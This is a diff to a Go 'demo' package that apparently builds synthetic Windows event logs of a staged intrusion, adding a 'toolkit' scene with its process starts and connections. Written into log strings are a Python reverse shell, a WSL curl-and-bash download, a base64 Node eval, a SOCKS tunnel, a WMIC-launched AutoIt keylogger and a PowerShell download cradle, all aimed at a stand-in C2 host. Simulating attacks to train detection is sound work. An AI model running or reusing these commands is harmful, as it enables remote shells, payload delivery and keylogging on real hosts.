@@ -1,6 +1,7 @@
 package demo
 
 import (
+	"encoding/base64"
 	"fmt"
 	"time"
 
@@ -28,6 +29,17 @@ var (
 	pWhoami  = proc{0x21a4, `C:\Windows\System32\whoami.exe`, `whoami  /all`, alice}
 	pNet     = proc{0x21bc, `C:\Windows\System32\net.exe`, `net  group "Domain Admins" /domain`, alice}
 	pHandsPS = proc{0x2460, psExe, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" `, alice}
+
+	// The toolkit scene: interpreters from the t.zip kit in C:\Users\Public\t.
+	pKitCmd  = proc{0x2610, cmdExe, `"C:\Windows\system32\cmd.exe" `, alice}
+	pJava    = proc{0x2654, javaExe, `"` + javaExe + `" -jar C:\Users\Public\t\tun.jar client ` + c2 + `:8443 R:socks`, alice}
+	pPython  = proc{0x26a8, kitPython, kitPython + ` -c "import socket,subprocess;s=socket.socket();s.connect(('` + c2 + `',4444));subprocess.Popen(['cmd.exe'],stdin=s,stdout=s,stderr=s)"`, alice}
+	pWSL     = proc{0x26f0, wslExe, `"` + wslExe + `" -e bash -c "curl -s http://` + c2 + `/l.sh -o /tmp/l.sh && bash /tmp/l.sh"`, alice}
+	pNode    = proc{0x2734, kitNode, kitNode + ` -e "eval(Buffer.from('` + base64.StdEncoding.EncodeToString([]byte(nodePayload)) + `','base64').toString())"`, alice}
+	pLua     = proc{0x2788, kitLua, kitLua + ` ` + luaPath, alice}
+	pWmic    = proc{0x27c4, wmicExe, `wmic  process call create "` + autoItExe + ` ` + a3xPath + `"`, alice}
+	pWmiHost = proc{0x0c5c, wmiPrvSE, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, system}
+	pAutoIt  = proc{0x2810, autoItExe, `"` + autoItExe + `" ` + a3xPath, alice}
 
 	pNightCmd = proc{0x3a0c, cmdExe, `C:\Windows\system32\cmd.exe /c "C:\ProgramData\WinUpdate\update.bat"`, system}
 	pNightPS  = proc{0x3a58, psExe, `powershell.exe  -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://` + c2 + `/beacon.ps1')"`, system}
@@ -132,6 +144,30 @@ func (l logs) intrusion() {
 	}
 	l.connect(at("14:21:03.400"), pHandsPS, c2, 80, "-")
 	l.engine(at("14:31:07.000"), 403, psExe, "ConsoleHost", 2)
+
+	l.toolkit()
+}
+
+// toolkit is the intruder's second console, 14:34–14:45: from a cmd.exe in
+// alice's session, the interpreters the t.zip kit brought (portable Python,
+// Node and Lua in C:\Users\Public\t) and those already on the host (Java,
+// WSL, WMIC) each do one job: a SOCKS tunnel, a reverse shell, a Linux
+// stage, a download, the unpacking of an AutoIt keylogger, and its start
+// through WMI so that it outlives the console.
+func (l logs) toolkit() {
+	l.start(at("14:34:10.000"), pKitCmd, pExplorer)
+	l.start(at("14:34:52.300"), pJava, pKitCmd)
+	l.connect(at("14:34:53.900"), pJava, c2, 8443, "-")
+	l.start(at("14:36:20.500"), pPython, pKitCmd)
+	l.connect(at("14:36:20.840"), pPython, c2, 4444, "-")
+	// What runs inside WSL (curl, bash) is out of sight of Windows logging:
+	// only wsl.exe's own start is seen.
+	l.start(at("14:38:05.100"), pWSL, pKitCmd)
+	l.start(at("14:40:30.700"), pNode, pKitCmd)
+	l.start(at("14:42:10.900"), pLua, pKitCmd)
+	l.start(at("14:44:00.200"), pWmic, pKitCmd)
+	l.start(at("14:44:01.050"), pAutoIt, pWmiHost)
+	l.connect(at("14:44:03.400"), pAutoIt, c2, 443, "-")
 }
 
 // taskXML is the task the second stage registers, as 4698 logs it.
